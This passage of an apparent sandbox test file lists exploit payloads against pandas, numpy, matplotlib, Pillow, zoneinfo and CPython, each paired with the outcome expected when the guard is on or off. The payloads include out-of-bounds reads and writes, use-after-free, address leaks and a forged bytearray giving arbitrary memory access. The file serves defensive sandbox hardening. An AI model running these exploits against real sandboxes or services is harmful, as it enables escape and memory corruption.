    # the same with cumsum: heap words and pointers come back as numbers
    Payload('groupby-duck-categorical-cumsum-leak', """
        import pandas as pd
        import numpy as np
        class Fake:
            def __init__(self, far):
                self.dtype = pd.CategoricalDtype(["a", "b"])
                self.categories = self.dtype.categories
                self.ordered = False
                self.codes = np.array([0, 1] + list(far), dtype=np.intp)
            def __len__(self):
                return len(self.codes)
            def __iter__(self):
                return iter(["a"] * len(self.codes))
        def main():
            far = list(range(2, 40))
            df = pd.DataFrame({"v": np.zeros(len(far) + 2, dtype=np.int64)})
            out = df.groupby(Fake(far)).cumsum()["v"].tolist()
            return [hex(x) for x in out]
        """, on={GUARD}, off={OK}),
    # pd.Categorical(obj) takes obj._codes unchecked (no fastpath); Index.groupby's groupsort_indexer writes out of bounds
    Payload('categorical-from-duck-codes', """
        import pandas as pd
        import numpy as np
        class Fake:
            def __init__(self):
                self.dtype = pd.CategoricalDtype(["a", "b"])
                self._codes = np.array([0, 1, 120], dtype=np.int64)
            def __len__(self):
                return 3
            def __iter__(self):
                return iter([])
        def main():
            c = pd.Categorical(Fake())
            print(list(c.codes))
            return str(pd.Index(["x", "y", "z"]).groupby(c))
        """, on={GUARD}, off={CRASH, OK}),
    # c.codes is a read-only view the code can make writeable: a real Categorical with a code past its categories
    Payload('categorical-codes-writeable-flip', """
        import pandas as pd
        import numpy as np
        def main():
            c = pd.Categorical(["a", "b", "a"])
            v = c.codes
            v.flags.writeable = True
            v[2] = 120
            return str(pd.Index(["x", "y", "z"]).groupby(c))
        """, on={GUARD}, off={CRASH, OK}),
    # every way to set the flag ends in ndarray.setflags, refused for a read-only array in a call
    Payload('multiindex-codes-writeable-item', """
        import pandas as pd
        import numpy as np
        def main():
            mi = pd.MultiIndex.from_arrays([[1, 2, 3], ["a", "b", "c"]])
            v = mi.codes[1]
            v.flags["W"] = True
            v[0] = 1 << 40
            return str(mi.to_frame())
        """, on={GUARD}, off={CRASH, OK}),
    Payload('categorical-codes-setflags-unbound', """
        import pandas as pd
        import numpy as np
        def main():
            c = pd.Categorical(["a", "b", "a"])
            v = c.codes
            np.ndarray.setflags(v, True)
            v[:] = -9000000
            return str(c.astype(str))
        """, on={GUARD}, off={CRASH, OK, EXCEPTION}),
    # the base of a read-only view is pandas' writeable original: handed out read-only in a call
    Payload('categorical-codes-base-write', """
        import pandas as pd
        import numpy as np
        def main():
            c = pd.Categorical(["a", "b", "a"])
            b = c.codes.base
            b[2] = 120
            return str(pd.Index(["x", "y", "z"]).groupby(c))
        """, on={EXCEPTION}, off={CRASH, OK, EXCEPTION}),
    # gb.grouper.groupings[0] = an object of the code's: its codes become the labels
    Payload('groupby-grouping-replaced-cumsum', """
        import pandas as pd
        import numpy as np
        class Ping:
            def __init__(self, codes, n):
                self.codes = np.array(codes, dtype=np.intp)
                self.group_index = pd.Index(range(n))
                self.result_index = self.group_index
                self.ngroups = n
                self.name = None
        def main(far=1 << 40):
            df = pd.DataFrame({"k": [1, 2, 1], "v": [1.0, 2.0, 3.0]})
            gb = df.groupby("k")
            gb.grouper.groupings[0] = Ping([0, 1, far], 2)
            return str(gb.cumsum())
        """, on={GUARD}, off={CRASH, OK}),
    # the same through gb.indices: groupsort_indexer counts past its array
    Payload('groupby-grouping-replaced-indices', """
        import pandas as pd
        import numpy as np
        class Ping:
            def __init__(self, codes, n):
                self.codes = np.array(codes, dtype=np.intp)
                self.group_index = pd.Index(range(n))
                self.result_index = self.group_index
                self.ngroups = n
                self.name = None
        def main():
            df = pd.DataFrame({"k": [1, 2, 1], "v": [1.0, 2.0, 3.0]})
            gb = df.groupby("k")
            gb.grouper.groupings[0] = Ping([0, 1, 1 << 40], 2)
            return str(gb.indices)
        """, on={GUARD}, off={CRASH, OK}),
    # r.grouper.bins set: labels shorter than the values, group_ohlc reads past them
    Payload('resample-bins-set-ohlc', """
        import pandas as pd
        import numpy as np
        def main(n=200000):
            s = pd.Series(np.arange(float(n)), index=pd.date_range("2020", periods=n, freq="min"))
            r = s.resample("2min")
            r.grouper.bins = np.ones(len(r.grouper.bins), dtype=np.int64)
            return str(r.ohlc())
        """, on={GUARD}, off={CRASH, OK}),
    # type(r.grouper)(bins, labels) passed to groupby
    Payload('bingrouper-constructed-ohlc', """
        import pandas as pd
        import numpy as np
        def main(n=200000):
            s = pd.Series(np.arange(float(n)), index=pd.date_range("2020", periods=n, freq="min"))
            BinGrouper = type(s.resample("2min").grouper)
            bg = BinGrouper(np.array([1, 1, 1], dtype=np.int64), pd.Index([1, 2, 3]))
            return str(s.groupby(bg).ohlc())
        """, on={GUARD}, off={CRASH, OK}),
    # gb.obj = a longer frame after the grouper was built
    Payload('groupby-obj-replaced-ohlc', """
        import pandas as pd
        import numpy as np
        def main(n=2000000):
            gb = pd.DataFrame({"k": [0, 1], "v": [1.0, 2.0]}).groupby("k")
            gb.obj = pd.DataFrame({"k": np.zeros(n), "v": np.arange(float(n))})
            return str(gb["v"].ohlc())
        """, on={GUARD}, off={CRASH, OK}),
    # an ewm with times=: e.obj = a longer Series, deltas read past their end
    Payload('ewm-obj-replaced-deltas', """
        import pandas as pd
        import numpy as np
        def main(n=5000000):
            s = pd.Series([1.0, 2.0, 3.0])
            e = s.ewm(halflife="1D", times=pd.date_range("2020", periods=3, freq="D"))
            e.obj = pd.Series(np.ones(n))
            return str(e.mean().tail(3))
        """, on={GUARD}, off={CRASH, OK}),
    # rolling('2D'): r.obj = a longer Series, the index read past its end
    Payload('rolling-obj-replaced-offset-window', """
        import pandas as pd
        import numpy as np
        def main(n=5000000):
            s = pd.Series([1.0, 2.0, 3.0], index=pd.date_range("2020", periods=3, freq="D"))
            r = s.rolling("2D")
            r.obj = pd.Series(np.arange(float(n)))
            return str(r.sum().tail(3))
        """, on={GUARD}, off={CRASH, OK}),

    # review 16 (2026-12-04): the backend printing numbers the child wrote
    # numeric prints in full: 7,000 x "1E+131071" is a 63 kB result (far
    # within max_output_bytes) that jsonb_out expands to 917 MB of digits in
    # one StringInfo, without CHECK_FOR_INTERRUPTS.  Python layer ON, an
    # ordinary role: the codec writes a Decimal as a JSON number as it is.
    Payload("numeric-exponent-result-expands", """
        import decimal
        def main():
            return [decimal.Decimal("1e131071")] * 7000
        """, on={OUTPUT}, off={OUTPUT}, max_ms=5000),

    # the same forged on the data channel (Python layer off)
    Payload("protocol-numeric-exponent-result", """
        import sb_io, os
        def main():
            sb_io.send(sb_io.RESULT, b'{"main":[' + b",".join([b"1e131071"] * 7000) + b']}')
            os._exit(0)
        """, off={OUTPUT, CRASH}, max_ms=5000),

    # ... and in the "findings" of an error report, which sb_child_failure
    # prints with JsonbToCString (100,000 of them would be 13 GB of digits;
    # by reading, the original build works until its 1 GB string fails, deaf
    # to cancel; not run there.  Fixed build: "invalid error report", 0.2 s)
    Payload("protocol-numeric-exponent-error-findings", """
        import sb_io, os
        def main():
            body = (b'{"kind":"exception","type":"E","message":"m","findings":['
                    + b",".join([b"1e131071"] * 100000) + b']}')
            sb_io.send(sb_io.ERROR, body)
            os._exit(0)
        """, off={CRASH}, max_ms=5000),

    # review 17 (2026-12-04): matplotlib's and Pillow's native code
    # review rev17: matplotlib._image.resample reads out_h * out_w points of
    # what a non-affine transform's inverse returns, whatever its length
    Payload("mpl-image-resample-short-mesh", """
        import numpy as np
        import matplotlib.pyplot as plt
        from matplotlib.transforms import Transform
        class ShortMesh(Transform):
            input_dims = 2
            output_dims = 2
            is_affine = False
            def inverted(self):
                return ShortMesh()
            def transform_non_affine(self, values):
                values = np.asarray(values, dtype=float)
                if len(values) > 64:        # the resampler's mesh: one point
                    return values[:1]
                return values
        def main():
            fig = plt.figure(figsize=(20, 20), dpi=100)     # 4e6 pixels, 64 MB read
            ax = fig.add_axes([0, 0, 1, 1])
            im = ax.imshow(np.arange(100.0).reshape(10, 10))
            im.set_transform(ShortMesh() + ax.transData)
            fig.canvas.draw()
            return "drawn"
        """, on={GUARD}, off={CRASH, OK}),
    Payload("mpl-image-resample-short-mesh-heap-pixels", """
        import numpy as np
        import matplotlib.pyplot as plt
        from matplotlib.transforms import Transform
        class ShortMesh(Transform):
            input_dims = 2
            output_dims = 2
            is_affine = False
            def inverted(self):
                return ShortMesh()
            def transform_non_affine(self, values):
                values = np.asarray(values, dtype=float)
                if len(values) > 64:
                    return np.array([[1234.0, 0.5]])
                return values
        def main():
            fig = plt.figure(figsize=(4, 4), dpi=100)
            ax = fig.add_axes([0, 0, 1, 1])
            ax.set_axis_off()
            im = ax.imshow(np.arange(4096.0).reshape(1, 4096), interpolation="nearest",
                           aspect="auto", extent=(0, 400, 0, 400), vmin=0, vmax=4095,
                           cmap="gray")
            im.set_transform(ShortMesh() + ax.transData)
            fig.canvas.draw()
            # each pixel's grey is a heap double read past the 16-byte mesh
            px = np.asarray(fig.canvas.buffer_rgba())[..., 0]
            return np.unique(px).tolist()
        """, on={GUARD}, off={OK, CRASH}),
    # review rev17: savefig/imsave pass pil_kwargs to Pillow's save, and
    # pil_kwargs["format"] picks any writer: Pillow 9.4's JPEG 2000 encoder
    # with offset=(0, 100) packs a tile of 2**32 - 50 rows into a 10 kB buffer
    Payload("pil-jpeg2000-offset-through-savefig", """
        import io
        import matplotlib.pyplot as plt
        def main():
            fig = plt.figure(figsize=(1, 1), dpi=50)
            fig.add_subplot().plot([1, 2])
            buf = io.BytesIO()
            fig.savefig(buf, format="png",
                        pil_kwargs={"format": "JPEG2000", "offset": (0, 100)})
            return len(buf.getvalue())
        """, on={GUARD}, off={CRASH, OK}),
    Payload("pil-jpeg2000-offset-through-imsave", """
        import io
        import numpy as np
        import matplotlib.pyplot as plt
        def main():
            buf = io.BytesIO()
            plt.imsave(buf, np.zeros((50, 50, 4), np.uint8), format="png",
                       pil_kwargs={"format": "JPEG2000", "offset": (100, 0)})
            return len(buf.getvalue())
        """, on={GUARD}, off={CRASH, OK}),
    # review rev17: FT2Font's bounding box is uninitialised until set_text();
    # a font mathtext hands out reports the heap's old bytes (pointers,
    # strings) as its descent, size and bitmap offset
    Payload("ft2font-uninitialised-bbox-heap-read", """
        from matplotlib.font_manager import FontProperties
        from matplotlib.mathtext import MathTextParser
        def main():
            leaked = {}
            parser = MathTextParser("path")
            for fontset in ("stix", "cm", "stixsans", "dejavuserif"):
                prop = FontProperties(math_fontfamily=fontset)
                for glyph in parser.parse(r"$x\\int\\sum\\mathcal{A}\\mathbb{R}$",
                                          prop=prop).glyphs:
                    font = glyph[0]
                    values = (font.get_descent(), font.get_width_height(),
                              font.get_bitmap_offset())
                    if values != (0, (0, 0), (0, 0)):
                        leaked[fontset + str(glyph[2])] = hex(-values[0])
            if leaked:
                raise RuntimeError("uninitialised FT2Font box: %r" % (leaked,))
            return "clean"
        """, on={OK}, off={OK, EXCEPTION}),
    # review rev17: the format check of print_figure looked at format= only;
    # rcParams["savefig.format"] = "pgf" chose the pgf backend (LaTeX's
    # temporary directory: mkdir, ended by seccomp)
    Payload("mpl-savefig-format-from-rcparams", """
        import io
        import matplotlib
        import matplotlib.pyplot as plt
        def main():
            fig = plt.figure(figsize=(1, 1), dpi=50)
            fig.add_subplot().plot([1, 2])      # text: LaTeX's directory
            matplotlib.rcParams["savefig.format"] = "pgf"
            buf = io.BytesIO()
            fig.savefig(buf)
            return buf.getvalue()[:80].decode()
        """, on={EXCEPTION, GUARD}, off={SECCOMP, DENIED, EXCEPTION, OK}),
    # review rev17: imread(BytesIO) lets Pillow identify the data whatever
    # format= says; EPS is read by Ghostscript on a temporary file
    Payload("pil-imread-eps-ghostscript", """
        import io
        import matplotlib.pyplot as plt
        def main():
            eps = b"%!PS-Adobe-3.0 EPSF-3.0\\n%%BoundingBox: 0 0 10 10\\n" + b"\\0" * 100
            return plt.imread(io.BytesIO(eps), format="jpg").shape
        """, on={EXCEPTION}, off={EXCEPTION, SECCOMP, DENIED}),
    # review rev17: FT2Font exports its glyph bitmap through the buffer
    # protocol; the next, larger text drawn with the same cached font deletes
    # it: np.asarray(font) of a font from mathtext reads and writes freed heap
    Payload("ft2font-buffer-use-after-free-write", """
        import numpy as np
        import matplotlib.pyplot as plt
        from matplotlib.font_manager import FontProperties
        from matplotlib.mathtext import MathTextParser
        def draw(text, size):
            fig = plt.figure(figsize=(8, 1), dpi=100)
            fig.text(0.01, 0.3, text, fontsize=size, family="DejaVu Sans")
            fig.canvas.draw()
            plt.close(fig)
        def main():
            draw("x" * 40, 12)                  # the font's bitmap: some 4 kB
            prop = FontProperties(family="DejaVu Sans", math_fontfamily="dejavusans")
            font = MathTextParser("path").parse("$1$", prop=prop).glyphs[0][0]
            view = np.asarray(font)             # the bitmap itself, writable
            draw("x" * 60, 40)                  # a larger bitmap: the old one is deleted
            view[...] = 0x42                    # written into the freed block
            for size in range(10, 80, 5):       # glibc finds its lists broken
                draw("z" * size, size)
            return list(view.shape)
        """, on={OK}, off={OK, CRASH}),
    Payload("ft2font-buffer-read-after-free", """
        import numpy as np
        import matplotlib.pyplot as plt
        from matplotlib.font_manager import FontProperties
        from matplotlib.mathtext import MathTextParser
        def draw(text, size):
            fig = plt.figure(figsize=(8, 1), dpi=100)
            fig.text(0.01, 0.3, text, fontsize=size, family="DejaVu Sans")
            fig.canvas.draw()
            plt.close(fig)
        def main():
            draw("x" * 40, 12)
            prop = FontProperties(family="DejaVu Sans", math_fontfamily="dejavusans")
            font = MathTextParser("path").parse("$1$", prop=prop).glyphs[0][0]
            view = np.asarray(font)
            before = bytes(view.reshape(-1).tolist())
            draw("x" * 60, 40)
            for size in range(10, 80, 5):
                draw("z" * size, size)
            after = bytes(view.reshape(-1).tolist())
            if after != before:
                raise RuntimeError("freed bitmap read: %s" % after[:64].hex())
            return "unchanged"
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # review rev17: _check_pixels multiplied the sizes as given; a negative
    # width passed it, and RendererAgg's native code takes the width modulo
    # 2**32 (PyArg "I"): a 3000 x 3000 buffer past max_figure_pixels (4e6)
    Payload("mpl-renderer-negative-width-pixel-limit", """
        import numpy as np
        from matplotlib.backends.backend_agg import RendererAgg
        def main():
            r = RendererAgg(-(2**32) + 3000, 3000, 72)
            return list(np.asarray(r.buffer_rgba()).shape)
        """, on={GUARD, EXCEPTION}, off={OK, GUARD, EXCEPTION}),
    # zoneinfo's C strong cache (a linked list) is walked while a key's __eq__
    # runs; one that calls ZoneInfo.clear_cache() frees the nodes, a bytearray
    # buffer refills the current one and points the walk to a node of the
    # code's making, whose key (a fake bytearray) is handed to the same __eq__.
    # After the fix a str subclass key is copied to a plain str: no __eq__ runs;
    # since review 53 the code may not define a str subclass's __eq__ at all
    Payload("zoneinfo-strong-cache-eq-clears-fake-bytearray", """
        import struct
        import zoneinfo
        class K(str):
            state = []
            def __eq__(self, other):
                st = K.state
                if len(st) == 1:
                    zoneinfo.ZoneInfo.clear_cache()
                    st.append([bytearray(st[0]) for i in range(64)])
                    return False
                st.append(other)
                return False
            def __hash__(self):
                return hash(str(self))
        def main():
            fo = struct.pack("<7q", 1 << 40, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0)
            fn = struct.pack("<4q", 0, 0, id(fo) + 32, 0)
            payload = struct.pack("<3q", id(fn) + 32, 0, 0) + bytes(7)
            zoneinfo.ZoneInfo.clear_cache()
            utc = zoneinfo.ZoneInfo("UTC")
            K.state[:] = [payload]
            zoneinfo.ZoneInfo(K("Europe/Rome"))
            fake = K.state[-1]
            if type(fake) is bytearray:
                fake[8] = 1         # a write to address 8: all memory is readable and writable
            return ["held", len(fo), len(fn), str(utc)]
        """, on={GUARD}, off={CRASH, OK}),
    # the same walk reached by ZoneInfo.clear_cache(only_keys=[key]) with a key
    # of any class of the code's: refused after the fix
    Payload("zoneinfo-clear-cache-only-keys-eq-clears", """
        import zoneinfo
        class Key:
            def __eq__(self, other):
                zoneinfo.ZoneInfo.clear_cache()
                return False
            def __hash__(self):
                return 1
        def main():
            for name in ("UTC", "Europe/Paris", "Asia/Tokyo", "America/New_York"):
                zoneinfo.ZoneInfo(name)
            zoneinfo.ZoneInfo.clear_cache(only_keys=[Key()])
            return "held"
        """, on={EXCEPTION}, off={CRASH, OK}),
    # _zoneinfo's load_data accepts a transition's time type index equal to the
    # number of types (one past the end of its _ttinfo array): from_file of a
    # crafted TZif reads the time type from the next 32-byte heap block, a
    # bytearray's buffer of the code's, and utcoffset() returns its pointer
    Payload("zoneinfo-tzif-type-index-one-past-end-fake-bytearray", """
        import datetime
        import io
        import struct
        import zoneinfo
        def main():
            fo = struct.pack("<7q", 1 << 40, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0)
            a = id(fo) + 32
            payload = struct.pack("<3q", a, a, a) + bytes(7)
            head = b"TZif" + bytes(16) + struct.pack(">6l", 0, 0, 0, 2, 1, 4)
            data = head + struct.pack(">2l", 0, 1000000) + bytes([1, 0]) + \\
                struct.pack(">lbb", 3600, 0, 0) + b"AAA\\0"
            src = io.BytesIO(data)
            spray = [bytearray(payload) for i in range(30000)]
            for i in range(20000, 30000, 2):
                spray[i] = None
            z = zoneinfo.ZoneInfo.from_file(src, key="x")
            fake = z.utcoffset(datetime.datetime(1970, 1, 3, tzinfo=z))
            if type(fake) is bytearray:
                fake[8] = 1         # a write to address 8
            return ["held", len(fo), len(spray)]
        """, on={EXCEPTION}, off={CRASH, OK, EXCEPTION}),
    # no local time type at all: the C code mallocs a zero-length array and a
    # transition's type (index 0) is read from whatever the heap held there
    Payload("zoneinfo-tzif-no-types", """
        import datetime
        import io
        import struct
        import zoneinfo
        def main():
            v1 = b"TZif2" + bytes(15) + struct.pack(">6l", 0, 0, 0, 0, 0, 0)
            v2 = b"TZif2" + bytes(15) + struct.pack(">6l", 0, 0, 0, 2, 0, 0) + \\
                struct.pack(">2q", 0, 1000000) + bytes([0, 0])
            z = zoneinfo.ZoneInfo.from_file(io.BytesIO(v1 + v2 + b"\\nAAA-1\\n"))
            out = []
            for day in (1, 3, 30):
                out.append(repr(z.utcoffset(datetime.datetime(1970, 1, day, tzinfo=z))))
            return out
        """, on={EXCEPTION}, off={CRASH, OK, EXCEPTION}),

    # pandas decides what an object is by its "_typ": an object of the
    # code's classes with _typ = "series" had pandas take its _values and
    # _constructor for a Series' (then to pandas' native code); in a call
    # the code's objects are none of pandas' types (the layer off: taken)
    Payload("pandas-abc-typ-of-a-code-object", """
        import numpy as np
        import pandas as pd
        class Fake:
            _typ = "series"
            def __init__(self):
                self._values = np.array([1.0, np.nan])
                self.index = pd.RangeIndex(2)
                self.name = "x"
            def _constructor(self, result, index=None, name=None, copy=False):
                raise RuntimeError("pandas took the code's object for a Series")
        def main():
            return str(pd.isna(Fake()))
        """, on={OK}, off={EXCEPTION}),

    # review 20 (2026-12-04): the day's fixes reviewed
    # rolling("1ns", on=index): BaseWindow keeps any Index given as on= whatever
    # its length, and calculate_variable_window_bounds (Cython, boundscheck
    # off) reads index[i] for every value: the counts come from comparing the
    # heap's words as times; a long Series read far past it (SIGSEGV)
    Payload("rolling-on-shorter-index", """
        import numpy as np
        import pandas as pd
        def main():
            idx = pd.DatetimeIndex([0], dtype="datetime64[ns]")
            leak = pd.Series(np.ones(40)).rolling("1ns", on=idx, closed="both").count()
            big = pd.Series(np.zeros(20_000_000)).rolling("2D", on=idx).sum()
            return [leak.tolist(), float(big.sum())]
        """, on={GUARD}, off={CRASH}),

    # a groupby's group_info is checked when made, but cached and writable:
    # its ids changed afterwards reached lib.generate_slices (DataSplitter,
    # apply), which writes starts[label] and ends[label] unchecked
    Payload("groupby-cached-ids-generate-slices", """
        import pandas as pd
        def main():
            df = pd.DataFrame({"k": [0, 1], "v": [1.0, 2.0]})
            gb = df.groupby("k")
            ids = gb.grouper.group_info[0]
            ids[1] = 10**9
            return gb.apply(lambda g: len(g)).tolist()
        """, on={GUARD}, off={CRASH}),

    # matplotlib.artist.getp(obj, "image") calls obj.get_image() (a name it
    # builds, past the validator's forbidden attributes); the _Font proxy
    # forwarded it: FT2Font.get_image() is an array with no base over the
    # cached font's bitmap, freed when the Agg renderer draws a larger text
    # with the same font (read: heap pointers; write: 0x41 into freed memory)
    Payload("font-get-image-through-getp", """
        import io
        import matplotlib.pyplot as plt
        from matplotlib import artist
        from matplotlib.mathtext import MathTextParser
        def draw(text, size):
            fig = plt.figure(figsize=(8, 3), dpi=100)
            fig.text(0.01, 0.3, text, fontsize=size, family="DejaVu Sans")
            fig.savefig(io.BytesIO(), format="png")
            plt.close(fig)
        def main():
            font = MathTextParser("path").parse("W").glyphs[0][0]
            draw("a", 10)
            image = artist.getp(font, "image")
            before = image.tobytes()
            draw("WWWWWWWWWWWWWWWWWWWWWW", 60)
            junk = [bytes(50) for i in range(200)]
            after = image.tobytes()
            image[...] = 0x41
            if after != before:
                raise RuntimeError("font bitmap freed under the array: " + after[:32].hex())
            return "copy"
        """, on={OK}, off={EXCEPTION, CRASH, OK}),

    # imsave's own format= (and rcParams["savefig.format"] when not given)
    # still chose any Pillow writer (jpeg2000, icns, spider, im, sgi, dds...),
    # which rev17 closed only for pil_kwargs={"format": ...}
    Payload("imsave-format-any-pillow-writer", """
        import io
        import numpy as np
        import matplotlib.pyplot as plt
        def main():
            b = io.BytesIO()
            plt.imsave(b, np.random.rand(64, 64, 4), format="jpeg2000")
            return len(b.getvalue())
        """, on={GUARD, EXCEPTION}, off={OK}),

    # review 21 (2026-12-04): pandas' native code calling the code's Python
    # review rev21: pandas' JSON encoder (ujson, objToJSON.c) holds a dict's
    # value borrowed across PyObject_Str(key): a key's __str__ that clears the
    # dict freed the value, refilled by a bytearray's buffer as a fake
    # bytearray over all memory, which the encoder handed to default_handler
    # (the payload writes address 0 with it: a crash means the hole is open)
    # review 85: CPython 3.11.2 crashes a one-liner reaches.  gh-115618:
    # property.getter(None) dropped a reference to None it never took
    # (fixed in 3.11.9); None freed is Py_FatalError.  The worker copies
    # with None in Python, layer on or off.
    Payload("property-getter-none-frees-none", """
        def main():
            p = property()
            for i in range(1500000):
                p.getter(None)
                p.setter(None)
            q = property(len).deleter(None)
            return [p.fget is None, q.fget is len]
        """, on={OK}, max_ms=20000),
    # date(b"\\x00\\x00\\x01\\x01") (pickle's form) took year 0: weekday()
    # -1, and ctime() read the name of day -1 before C's array (SIGSEGV)
    Payload("date-from-pickled-state-year-zero-ctime", """
        import datetime
        def main():
            d = datetime.date(b"\\x00\\x00\\x01\\x01")
            t = datetime.datetime(b"\\x00\\x00\\x01\\x01" + bytes(6))
            return [d.weekday(), d.ctime(), t.ctime()]
        """, on={GUARD}),
    # C state only the builtin base's __init__ sets: a staticmethod's
    # function (gh-144330) and a StopIteration's value, read unchecked
    Payload("staticmethod-subclass-skips-base-init", """
        class S(staticmethod):
            def __init__(self, f):
                pass
        def main():
            return S(len)([1, 2])
        """, off={CRASH}),
    Payload("stopiteration-subclass-skips-base-init", """
        class E(StopIteration):
            def __init__(self, *a):
                pass
        class It:
            def __iter__(self):
                return self
            def __next__(self):
                raise E()
        def g():
            x = yield from It()
            yield x
        def main():
            return list(g())
        """, off={CRASH}),
    # review 88 F5: a set of objects hashed by their address iterates in
    # address order (a dozen bits of each address); with the code's hash()
    # of chosen values as an oracle the whole address came back.  The
    # worker keys identity hashes at their source (sb_addrguard.c), layer
    # on or off: objects made one after another land anywhere in a set.
    Payload("set-order-follows-addresses", """
        def main():
            objs = [object() for _ in range(2000)]
            position = {id(o): i for i, o in enumerate(objs)}
            order = [position[id(o)] for o in set(objs)]
            follows = sum(1 for a, b in zip(order, order[1:]) if b == a + 1)
            if follows > 100:
                raise RuntimeError("%d of 1999 objects follow the one made before them in a "
                                   "set: it is ordered by address" % follows)
            methods = [x.append for x in [[] for _ in range(2000)]]
            position = {id(m): i for i, m in enumerate(methods)}
            order = [position[id(m)] for m in set(methods)]
            follows = sum(1 for a, b in zip(order, order[1:]) if b == a + 1)
            if follows > 100:
                raise RuntimeError("bound methods: %d follow in a set" % follows)
            return "unordered"
        """, on={OK}),
    # review 89 F5: sets the interpreter made while it started held their
    # keys under the hashes they had before the worker keyed them
    # (os.stat in os.supports_dir_fd was False): filled again in place
    Payload("keyed-hashes-keep-startup-sets", """
        import os
        def main():
            found = [os.stat in os.supports_dir_fd, os.stat in os.supports_fd,
                     os.stat in os.supports_follow_symlinks]
            if not all(found):
                raise RuntimeError("a set made at start-up lost its keys: %r" % found)
            return found
        """, off={OK}),
    # review 89: numpy.core.umath star-imports Dragon4's functions too:
    # the unchecked one there crashed the child
    Payload("numpy-umath-dragon4-pad-left", """
        import numpy as np
        def main():
            return len(np.core.umath.dragon4_positional(1.5, pad_left=40000))
        """, off={OK, CRASH}),
    # review 89: library code that formats or hashes the real id():
    # pyparsing's elements hash by id(self) (matplotlib.fontconfig_pattern
    # hands them out), and np.ma's ids() returns buffer addresses
    Payload("addresses-through-library-ids", """
        import numpy as np
        import matplotlib.fontconfig_pattern as fp
        def main():
            leaked = []
            lit = fp.Literal("x")
            # a __hash__'s int is taken as it is below 2**63, reduced above
            if hash(lit) not in (id(lit), hash(id(lit))):
                leaked.append("pyparsing hash")
            try:
                np.ma.array([1, 2], mask=[0, 1]).ids()
                leaked.append("MaskedArray.ids")
            except TypeError:
                pass
            if leaked:
                raise RuntimeError("addresses leaked through: %s" % ", ".join(leaked))
            return "held"
        """, on={OK}, off={EXCEPTION}),
    # review 86: native code that trusts a size.  numpy's Dragon4 padded
    # its static 16 KiB buffer with pad_left - 16384 spaces past its end,
    # over numpy's cached object pointers (the next call used one)
    Payload("numpy-format-float-pad-left-past-buffer", """
        import numpy as np
        def main():
            np.format_float_positional(np.float64(1.5), pad_left=16498)
            return np.format_float_positional(np.float64(2.25))
        """, off={OK, CRASH}),
    Payload("numpy-format-float-precision-int-max", """
        import numpy as np
        def main():
            return len(np.format_float_positional(np.float64(1.5), precision=2**31 - 1,
                                                  unique=False))
        """, off={CRASH}),
    Payload("numpy-printoptions-precision-huge", """
        import numpy as np
        def main():
            with np.printoptions(precision=100000, floatmode="fixed"):
                return len(str(np.array([1.5, 2.5])))
        """, off={OK, CRASH}),
    # pandas' Period.strftime: "%Z" read the zone name through a pointer
    # it never set (stack bytes came back, or SIGSEGV); a format whose
    # directives outgrow the format's length + 50 read past the buffer
    Payload("pandas-period-strftime-zone-pointer", """
        import pandas as pd
        def main():
            repr(pd.Series([1.5, 2]))
            return pd.Period("2020-01", "M").strftime("%Z%Z%Z")
        """, off={OK, CRASH, EXCEPTION}),
    Payload("pandas-period-strftime-outgrows-buffer", """
        import pandas as pd
        def main():
            return list(pd.period_range("2020-01", periods=3, freq="D").strftime("%A" * 100))
        """, off={OK, CRASH, EXCEPTION}),
    # review 171: a Period of years past 2**31 writes its year in 11
    # characters; the table gave 7, and "%Y" * 9 read past the buffer again
    # review 170: numpy converts a list of ("name", format) fields with the
    # list's items borrowed, and reads a format object's dtype attribute: a
    # property of the code's emptied the list (numpy read past it) or freed
    # a field's title, which numpy stored and the code got back reused
    Payload("numpy-dtype-field-list-emptied-by-dtype-property", """
        import numpy as np
        st = {"c": None}
        class P:
            @property
            def dtype(self):
                del st["c"][:]
                return np.dtype("i8")
        def main():
            L = [("f%d" % i, P()) for i in range(2)]
            st["c"] = L
            return str(np.dtype(L))
        """, off={CRASH, EXCEPTION, OK}),
    Payload("numpy-dtype-field-title-freed-by-dtype-property", """
        import numpy as np
        st = {"L": None, "fresh": []}
        class T:
            def __init__(self, k):
                self.k = k
            def __hash__(self):
                return 7
            def __eq__(self, o):
                return self is o
        class P:
            pass
        def dtype(self):
            st["L"][0] = None
            st["fresh"] = [T(1000 + i) for i in range(8)]
            return np.dtype("i8")
        def main():
            P.dtype = property(dtype)
            title = T(1)
            L = [((title, "a"), P())]
            del title
            st["L"] = L
            dt = np.dtype(L)
            got = [v[2] for v in dt.fields.values() if len(v) > 2]
            return [any(g is f for f in st["fresh"]) for g in got]
        """, off={CRASH, EXCEPTION, OK}),
    # review 175: numpy reads a dict spec's names once for their number and
    # again by index after each format, and keeps the names list as it is
    # then: a list subclass answering differently put an int field over an
    # object field's pointer (an address out, a number taken for an object).
    # Refused in C (sb_dtypeguard.c), the Python layer on or off; numpy
    # words the first as its own ValueError over the refusal
    Payload("numpy-dtype-dict-formats-getitem-renames-fields", """
        import numpy as np
        st = {"names": None}
        class F(list):
            def __getitem__(self, i):
                if i == 1:
                    st["names"][0] = "b"
                return ["O", "i8"][i]
        def main():
            names = ["a", "b"]
            st["names"] = names
            dt = np.dtype({"names": names, "formats": F(["O", "i8"]), "offsets": [0, 0]})
            a = np.zeros(1, dt)
            a["a"][0] = str
            a["b"][0] = 0x4141414141414141
            return repr(a["a"][0])
        """, on={GUARD, EXCEPTION}, off={GUARD, EXCEPTION}),
    Payload("numpy-dtype-dict-names-len-lies", """
        import numpy as np
        class N(list):
            def __len__(self):
                return 1
        def main():
            dt = np.dtype({"names": N(["a", "b", "c"]), "formats": ["i8", "i8", "i8"]})
            return repr(np.zeros(1, dt).tolist())
        """, on={GUARD, EXCEPTION}, off={GUARD, EXCEPTION}),
    # review 176: C containers that call the code's Python went round the
    # heap-type check: a mappingproxy over an object of the code's, and a
    # defaultdict whose default factory renamed a field between numpy's reads
    Payload("numpy-dtype-dict-names-in-a-mappingproxy", """
        import numpy as np
        class N:
            def __init__(self, a, b):
                self.a = a
                self.b = b
            def __len__(self):
                return len(self.a)
            def __getitem__(self, i):
                return self.a[i]
            def __iter__(self):
                return iter(self.b)
        def main():
            MP = type(np.dtype([("x", "i8")]).fields)
            dt = np.dtype({"names": MP(N(["a", "b"], ["b", "b"])), "formats": ["O", "i8"],
                           "offsets": [0, 0]})
            a = np.zeros(1, dt)
            a["b"][0] = 0x4141414141414141
            return repr(a["a"][0])
        """, off={CRASH, EXCEPTION, GUARD}),
